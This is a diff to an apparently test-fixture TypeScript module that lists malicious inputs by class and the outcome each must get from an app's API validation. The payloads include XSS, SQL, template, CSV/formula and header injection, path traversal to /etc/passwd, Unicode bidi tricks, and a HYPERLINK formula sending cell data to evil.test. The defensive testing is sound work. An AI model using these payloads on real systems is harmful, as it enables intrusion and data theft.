@@ -4,39 +4,36 @@ import { endpoints } from '../api/endpoints.ts'
 
 interface Hostile {
   readonly text: string
-  /**
-   * Refused: no field takes it. Inert: whoever takes it shows it as it is, and nothing comes of it. Cleaned: what is
-   * invisible in it is taken out.
-   */
-  readonly is: 'refused' | 'inert' | 'cleaned'
+  /** `rejected`: no field accepts it. `inert`: it is stored and shown as plain text. `cleaned`: its invisible characters are removed. */
+  readonly outcome: 'rejected' | 'inert' | 'cleaned'
 }
 
-/** Text that means to be more than text, class by class, and what becomes of it. */
+/** Malicious or tricky text by class, with what must happen to it. */
 export const hostile = {
-  html: { text: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>', is: 'inert' },
-  attribute: { text: `" onmouseover="window.pwned=1" x='`, is: 'inert' },
-  template: { text: '{{constructor.constructor("window.pwned=1")()}} ${7*7} <%= 7*7 %>', is: 'inert' },
-  sql: { text: `Robert'); DROP TABLE users; -- " or 1=1`, is: 'inert' },
-  formula: { text: '=HYPERLINK("http://evil.test?"&A1,"x")', is: 'inert' },
-  plus: { text: '+1+cmd|calc', is: 'inert' },
-  at: { text: '@SUM(1+1)*cmd|calc', is: 'inert' },
-  minus: { text: '-2+3+cmd|calc', is: 'inert' },
-  path: { text: '../../../etc/passwd', is: 'inert' },
-  emoji: { text: '👩‍🚒👨‍👩‍👧‍👦 José', is: 'inert' },
-  combining: { text: `Z${'\u0335\u0336\u0337'.repeat(6)}algo`, is: 'inert' },
-  arabic: { text: 'محمد بن سلمان', is: 'inert' },
-  unbroken: { text: 'W'.repeat(58), is: 'inert' },
-  lines: { text: 'Client\r\nBcc: everyone@evil.test', is: 'refused' },
-  newline: { text: 'Client\nX-Injected: yes', is: 'refused' },
-  nul: { text: 'Client\u0000', is: 'refused' },
-  escape: { text: '\u001b[31mClient', is: 'refused' },
-  override: { text: 'Client \u202egnp.exe', is: 'refused' },
-  isolate: { text: 'Client \u2066x\u2069', is: 'refused' },
-  zeroWidth: { text: 'Cli\u200bent\ufeff', is: 'cleaned' },
-  softHyphen: { text: 'Cli\u00adent', is: 'cleaned' },
-  wrapped: { text: '\u2068Client\u2069\u200e', is: 'cleaned' },
-  separator: { text: 'Client\u2028x', is: 'refused' },
-  tag: { text: 'Client\u{e0041}', is: 'refused' },
+  html: { text: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>', outcome: 'inert' },
+  attribute: { text: `" onmouseover="window.pwned=1" x='`, outcome: 'inert' },
+  template: { text: '{{constructor.constructor("window.pwned=1")()}} ${7*7} <%= 7*7 %>', outcome: 'inert' },
+  sql: { text: `Robert'); DROP TABLE users; -- " or 1=1`, outcome: 'inert' },
+  formula: { text: '=HYPERLINK("http://evil.test?"&A1,"x")', outcome: 'inert' },
+  plus: { text: '+1+cmd|calc', outcome: 'inert' },
+  at: { text: '@SUM(1+1)*cmd|calc', outcome: 'inert' },
+  minus: { text: '-2+3+cmd|calc', outcome: 'inert' },
+  path: { text: '../../../etc/passwd', outcome: 'inert' },
+  emoji: { text: '👩‍🚒👨‍👩‍👧‍👦 José', outcome: 'inert' },
+  combining: { text: `Z${'\u0335\u0336\u0337'.repeat(6)}algo`, outcome: 'inert' },
+  arabic: { text: 'محمد بن سلمان', outcome: 'inert' },
+  unbroken: { text: 'W'.repeat(58), outcome: 'inert' },
+  lines: { text: 'Client\r\nBcc: everyone@evil.test', outcome: 'rejected' },
+  newline: { text: 'Client\nX-Injected: yes', outcome: 'rejected' },
+  nul: { text: 'Client\u0000', outcome: 'rejected' },
+  escape: { text: '\u001b[31mClient', outcome: 'rejected' },
+  override: { text: 'Client \u202egnp.exe', outcome: 'rejected' },
+  isolate: { text: 'Client \u2066x\u2069', outcome: 'rejected' },
+  zeroWidth: { text: 'Cli\u200bent\ufeff', outcome: 'cleaned' },
+  softHyphen: { text: 'Cli\u00adent', outcome: 'cleaned' },
+  wrapped: { text: '\u2068Client\u2069\u200e', outcome: 'cleaned' },
+  separator: { text: 'Client\u2028x', outcome: 'rejected' },
+  tag: { text: 'Client\u{e0041}', outcome: 'rejected' },
 } as const satisfies Record<string, Hostile>
 export type HostileName = keyof typeof hostile
 export const hostileNames = Object.keys(hostile) as HostileName[]
@@ -52,7 +49,7 @@ interface Def {
 
 const defOf = (schema: z.ZodMiniType): Def => schema.def as unknown as Def
 
-/** Whether text from outside gets into a value of the schema. */
+/** Whether a schema accepts free text. */
 const takesText = (schema: z.ZodMiniType): boolean => {
   const { type, innerType, in: input, element, options = [] } = defOf(schema)
   const inner = innerType ?? input ?? element
@@ -67,7 +64,7 @@ export interface TextField {
   readonly many: boolean
 }
 
-/** Every field of every call, in body or query, that text gets in by. */
+/** Every body and query field of every endpoint that accepts text. */
 export const textFields: readonly TextField[] = (Object.values(endpoints) as Endpoint[]).flatMap(
   ({ method, path, body, query }) =>
     Object.entries({ body, query }).flatMap(([part, schema]) =>
@@ -81,11 +78,12 @@ export const textFields: readonly TextField[] = (Object.values(endpoints) as End
     ),
 )
 
-/** What a field makes of a text; undefined when it refuses it. */
-export const taken = ({ schema, many }: TextField, text: string): unknown => schema.safeParse(many ? [text] : text).data
+/** The parsed value of a text; undefined when the field rejects it. */
+export const parseField = ({ schema, many }: TextField, text: string): unknown =>
+  schema.safeParse(many ? [text] : text).data
 
-// Compared with what is kept, and never kept or shown itself.
-const compared = /\.(\w*[pP]assword|\w*[tT]oken|invite|auth|lawFirmId)$/
+// These are only compared with stored values, never stored or shown.
+const neverDisplayed = /\.(\w*[pP]assword|\w*[tT]oken|invite|auth|lawFirmId)$/
 
-/** The fields whose text is kept or looked for, and may be shown. */
-export const openFields = textFields.filter(({ name }) => !compared.test(name))
+/** The fields whose text may be stored, searched and shown. */
+export const displayedFields = textFields.filter(({ name }) => !neverDisplayed.test(name))
